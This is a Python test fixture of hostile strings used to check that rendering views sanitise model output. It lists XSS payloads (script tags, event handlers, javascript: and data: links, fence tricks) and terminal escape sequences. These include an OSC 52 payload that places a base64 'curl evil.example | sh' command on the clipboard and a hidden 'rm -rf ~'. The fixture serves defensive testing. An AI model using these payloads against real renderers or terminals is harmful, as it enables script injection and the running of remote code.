"""Hostile model answers for the rendering views (tests/test_render.py).

PAYLOADS: ``(name, text)`` pairs. Each text is something a prompt-injected model could write:
raw HTML of every dangerous kind, script URLs in every Markdown link form, fences that a naive
escaper reads differently from CommonMark (so what it leaves raw is live HTML), terminal
escape sequences, and markup that used to freeze the old renderers. Every payload goes
through every view; the emitted HTML is parsed and checked, not searched for substrings.
"""

from __future__ import annotations

_JS = "javascript:alert(document.domain)"

# Raw HTML: every element or attribute that runs code or changes the page.
_HTML = [
    ("script tag", "Hello <script>alert(1)</script> world"),
    ("script uppercase", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    ("script split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script in paragraph end", "text\n<script>\nalert(1)\n</script>\n"),
    ("img onerror", "<img src=x onerror=alert(1)>"),
    ("img onerror quoted", '<img src="x" onerror="alert(1)">'),
    ("img onerror slash", "<img/src=x/onerror=alert(1)>"),
    ("svg onload", "<svg onload=alert(1)>"),
    ("svg script", "<svg><script>alert(1)</script></svg>"),
    ("math href", '<math><mtext><a xlink:href="javascript:alert(1)">x</a></mtext></math>'),
    ("iframe", '<iframe src="https://evil.example"></iframe>'),
    ("iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("object", '<object data="javascript:alert(1)"></object>'),
    ("embed", '<embed src="data:text/html,<script>alert(1)</script>">'),
    ("style element", "<style>body{display:none}</style>"),
    ("style attribute", '<p style="background:url(javascript:alert(1))">x</p>'),
    ("base href", '<base href="https://evil.example/">'),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("form action", '<form action="https://evil.example"><input name=q><button>go</button></form>'),
    ("button formaction", '<button formaction="javascript:alert(1)">x</button>'),
    ("details ontoggle", "<details open ontoggle=alert(1)>"),
    ("body onload", "<body onload=alert(1)>"),
    ("div onmouseover", '<div onmouseover="alert(1)">hover</div>'),
    ("a href javascript html", '<a href="javascript:alert(1)">click</a>'),
    ("link stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("template", "<template><script>alert(1)</script></template>"),
    ("noscript breakout", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("textarea breakout", "<textarea></textarea><script>alert(1)</script>"),
    ("html comment", "<!-- <script>alert(1)</script> -->"),
    ("conditional comment", "<!--[if IE]><script>alert(1)</script><![endif]-->"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("processing instruction", '<?xml-stylesheet href="javascript:alert(1)"?>'),
    ("doctype", "<!DOCTYPE html><script>alert(1)</script>"),
    ("html block type 1", "<pre>\n<script>alert(1)</script>\n</pre>"),
    ("html block type 6", "<div>\n<img src=x onerror=alert(1)>\n</div>"),
    ("html block type 7", "<custom-tag onclick=alert(1)>\n\n</custom-tag>"),
    ("inline html in emphasis", "*<img src=x onerror=alert(1)>*"),
    ("inline html in heading", "# <script>alert(1)</script>"),
    ("inline html in table", "| a |\n|---|\n| <img src=x onerror=alert(1)> |"),
    ("inline html in list", "- <iframe src=//evil.example>"),
    ("inline html in quote", "> <object data=x>"),
    ("entity-built tag", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("numeric entity tag", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    ("attribute breakout in title", '[a](http://x.example "\\"><script>alert(1)</script>")'),
    ("attribute breakout in alt", '![x" onerror="alert(1)](http://x.example/i.png)'),
    ("attribute breakout in info string", '```js" onload="alert(1)\ncode\n```'),
]

# Script URLs in every way Markdown can write a link or image target.
_URLS = [
    ("inline link", f"[click]({_JS})"),
    ("inline link uppercase", "[click](JAVASCRIPT:alert(1))"),
    ("inline link mixed case", "[click](JaVaScRiPt:alert(1))"),
    ("inline link vbscript", "[click](vbscript:msgbox(1))"),
    ("inline link data html", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("inline link data image", "[click](data:image/png;base64,iVBORw0KGgo=)"),
    ("inline link file", "[click](file:///etc/passwd)"),
    ("link target on next line", f"[click](\n{_JS})"),
    ("link target on next line with spaces", f"[click](\n   {_JS}\n)"),
    ("angle target", f"[click](<{_JS}>)"),
    ("angle target with space", "[click](<javascript: alert(1)>)"),
    ("angle target with tab", "[click](<java\tscript:alert(1)>)"),
    ("leading space in angle target", "[click](< javascript:alert(1)>)"),
    ("reference link", f"[click][1]\n\n[1]: {_JS}"),
    ("reference link next line", f"[click][x]\n\n[x]:\n{_JS}"),
    ("collapsed reference", f"[click][]\n\n[click]: {_JS}"),
    ("shortcut reference", f"[click]\n\n[click]: <{_JS}>"),
    ("reference with title", f'[click][r]\n\n[r]: {_JS} "title"'),
    ("reference in list", f"- [click][r]\n\n[r]: {_JS}"),
    ("hex entity in scheme", "[click](jav&#x61;script:alert(1))"),
    ("decimal entity in scheme", "[click](&#106;avascript:alert(1))"),
    ("named entity colon", "[click](javascript&colon;alert(1))"),
    ("entity tab in scheme", "[click](java&#9;script:alert(1))"),
    ("entity newline in scheme", "[click](java&#10;script:alert(1))"),
    ("entity carriage return in scheme", "[click](java&#13;script:alert(1))"),
    ("entity nul prefix", "[click](&#0;javascript:alert(1))"),
    ("leading control char", "[click](\x01javascript:alert(1))"),
    ("leading entity space", "[click](&#32;javascript:alert(1))"),
    ("leading entity control", "[click](&#x1;javascript:alert(1))"),
    ("backslash escaped colon", "[click](javascript\\:alert(1))"),
    ("percent encoded scheme", "[click](%6Aavascript:alert(1))"),
    ("autolink javascript", f"<{_JS}>"),
    ("autolink vbscript", "<vbscript:msgbox(1)>"),
    ("autolink data", "<data:text/html,<script>alert(1)</script>>"),
    ("autolink mixed case", "<JaVaScRiPt:alert(1)>"),
    ("image javascript", f"![x]({_JS})"),
    ("image vbscript", "![x](vbscript:msgbox(1))"),
    ("image data svg", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("image data html", "![x](data:text/html,<script>alert(1)</script>)"),
    ("image reference javascript", f"![x][i]\n\n[i]: {_JS}"),
    ("image entity scheme", "![x](jav&#x61;script:alert(1))"),
    ("image in link", f"[![x](http://x.example/i.png)]({_JS})"),
    ("link in image alt", f"![[a]({_JS})](http://x.example/i.png)"),
    ("nested brackets", f"[[[[click]]]]({_JS})"),
    ("link in table", f"| a |\n|---|\n| [x]({_JS}) |"),
    ("link in heading", f"## [x]({_JS})"),
    ("link in blockquote", f"> [x]({_JS})"),
    ("link in emphasis", f"**[x]({_JS})**"),
]

# Fences that a line-based escaper reads differently from CommonMark.
_FENCES = [
    ("backtick fence closed by tilde", "```\ncode\n~~~\n<img src=x onerror=alert(1)>\n```"),
    ("tilde fence closed by backticks", "~~~\ncode\n```\n<script>alert(1)</script>\n~~~"),
    ("short closing fence", "````\ncode\n```\n<script>alert(1)</script>\n````"),
    ("backtick in info string", "```a`b\n<script>alert(1)</script>\n```"),
    ("fence indented four spaces", "    ```\n<script>alert(1)</script>\n    ```"),
    ("fence indented by tab", "\t```\n<img src=x onerror=alert(1)>\n\t```"),
    ("fence after U+2028", "text\u2028```\n<script>alert(1)</script>\n```"),
    ("fence after form feed", "\f```\n<script>alert(1)</script>\n```"),
    ("fence after vertical tab", "\v```\n<script>alert(1)</script>\n```"),
    ("fence in list item", "- ```\n  code\n  ```\n<script>alert(1)</script>"),
    ("fence in blockquote", "> ```\n> code\n<script>alert(1)</script>\n> ```"),
    ("unclosed fence", "```\n<script>alert(1)</script>"),
    ("fence with trailing text on closer", "```\ncode\n``` x\n<script>alert(1)</script>\n```"),
    ("unbalanced backtick", "`<script>alert(1)</script>"),
    ("escaped backtick", "\\`<script>alert(1)</script>`"),
    ("double backtick span", "`` ` <img src=x onerror=alert(1)> ` ``"),
    ("code span across lines", "`a\n<script>alert(1)</script>\nb`"),
]

# Terminal escapes: harmless in HTML, hostile in a terminal's text/plain.
_TERMINAL = [
    ("ansi clear screen", "before\x1b[2J\x1b[H after"),
    ("osc title", "\x1b]0;pwned\x07answer"),
    ("osc 52 clipboard", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07answer"),
    ("osc 8 hyperlink", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"),
    ("c1 csi", "\x9b2J\x9dtitle\x9c answer"),
    ("dcs and apc", "\x1bPq#0;2;0;0;0\x1b\\\x1b_apc\x1b\\ text"),
    ("carriage return overwrite", "rm -rf ~\rls -la       "),
    ("nul and bell", "a\x00b\x07c"),
    ("unterminated osc", "ok \x1b]0;title never ends"),
]

# Markup that made the old renderers quadratic, small here (the benchmark has 1 MB versions).
_FREEZES = [
    ("emphasis run", " *a" * 2000),
    ("strong run", " **a" * 2000),
    ("unclosed fences", "```\n" * 500),
    ("nested quotes", ">" * 3000 + " <script>alert(1)</script>"),
    ("nested brackets deep", "[" * 3000 + f"x]({_JS})"),
    ("long reference definitions", "".join(f"[r{i}]: {_JS}\n" for i in range(300)) + "[r1]"),
]

PAYLOADS: list[tuple[str, str]] = [*_HTML, *_URLS, *_FENCES, *_TERMINAL, *_FREEZES]
